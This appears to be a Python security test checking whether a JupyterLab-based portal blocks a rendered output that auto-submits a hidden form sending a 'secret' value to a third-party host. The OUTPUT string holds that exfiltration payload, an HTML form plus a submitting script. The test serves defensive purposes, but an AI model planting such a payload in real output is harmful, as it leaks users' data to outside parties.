"""Print a form that sends data to a third party as soon as it is shown.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: `form-action` is `'none'`, and the portal's page frames the session's own origin alone; from tier 2 on
    neither form nor script is shown
"""

OUTPUT = """
<form id="leak" method="post" action="THIRD/"><input name="data" value="secret"></form>
<script>document.getElementById("leak").submit()</script>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")
    stock_screen.fresh()


def test_the_third_party_hears_nothing(any_screen, third_party) -> None:
    any_screen.show(OUTPUT, third_party)
    third_party.hears_nothing()
